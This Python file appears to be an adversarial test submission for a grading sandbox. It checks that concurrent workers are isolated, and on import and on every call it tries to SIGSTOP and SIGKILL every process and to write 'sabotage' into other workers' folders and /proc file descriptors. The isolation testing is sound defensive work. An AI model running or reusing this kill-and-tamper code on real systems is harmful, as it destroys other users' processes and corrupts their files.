"""Attack: while another submission is graded at the same time, try to sabotage it.

Graded concurrently with neighbour_victim.py. At import and in every call
(which each take 0.3 s, so the attack overlaps the neighbour's whole run) it
sends SIGSTOP and SIGKILL to every process it can signal: kill(-1) and then
every pid in /proc one by one. It tries to write into the other workers'
folders (/tmp/minimax-kit-worker-*/work/ of any other uid), through
/proc/<pid>/cwd and /proc/<pid>/fd/* of every process, and to plant files in
the other worker's home. Each worker has its own uid, so all of this fails
with permission errors. As a safety net the broad kill only runs when this
worker really has an unprivileged uid of the worker range. No function is
correct.

Should score 0 of 8: every check "failed"; the neighbour scores its honest 8
of 8; add's output reports no process signalled and nothing written.
"""

import glob
import os
import signal
import time

TALLY = {"signalled": set(), "wrote": set()}
SANDBOXED = 61000 <= os.getuid() <= 61999


def _signal_everyone():
    if not SANDBOXED:  # never sweep a machine as root or as a real user
        return
    for sig in (signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(-1, sig)  # every process this uid may signal, except this one
        except OSError:
            pass
    me = os.getpid()
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) not in (me, 1):
            for sig in (signal.SIGSTOP, signal.SIGKILL):
                try:
                    os.kill(int(entry), sig)
                    TALLY["signalled"].add(int(entry))
                except OSError:
                    pass


def _plant(path):
    try:
        with open(path, "a") as handle:
            handle.write("sabotage\n")
        TALLY["wrote"].add(path)
    except OSError:
        pass


def _write_everywhere():
    for work in glob.glob("/tmp/minimax-kit-worker-*/work"):
        try:
            neighbour = os.stat(work).st_uid != os.getuid()
        except OSError:
            continue
        # Only other uids' folders: a stale folder of this uid is read_stale_worker_homes.py's business.
        if neighbour:
            for name in ("toy.py", "sentinel.txt", "planted.txt", ".stdout"):
                _plant(os.path.join(work, name))
            _plant(os.path.join(os.path.dirname(work), "planted.txt"))
    me = str(os.getpid())
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or entry == me:
            continue
        _plant(f"/proc/{entry}/cwd/planted.txt")
        try:
            fds = os.listdir(f"/proc/{entry}/fd")
        except OSError:
            continue
        for fd in fds:
            _plant(f"/proc/{entry}/fd/{fd}")


def _attack():
    _signal_everyone()
    _write_everywhere()


_attack()


def add(a, b):
    deadline = time.monotonic() + 0.3
    while time.monotonic() < deadline:
        _attack()
    print("signalled:", sorted(TALLY["signalled"]))
    print("wrote:", sorted(TALLY["wrote"]))
    return None


def pair(x):
    time.sleep(0.3)
    _attack()
    return None


def tag(n):
    time.sleep(0.3)
    _attack()
    return None


def push(items, item):
    time.sleep(0.3)
    _attack()
    return None
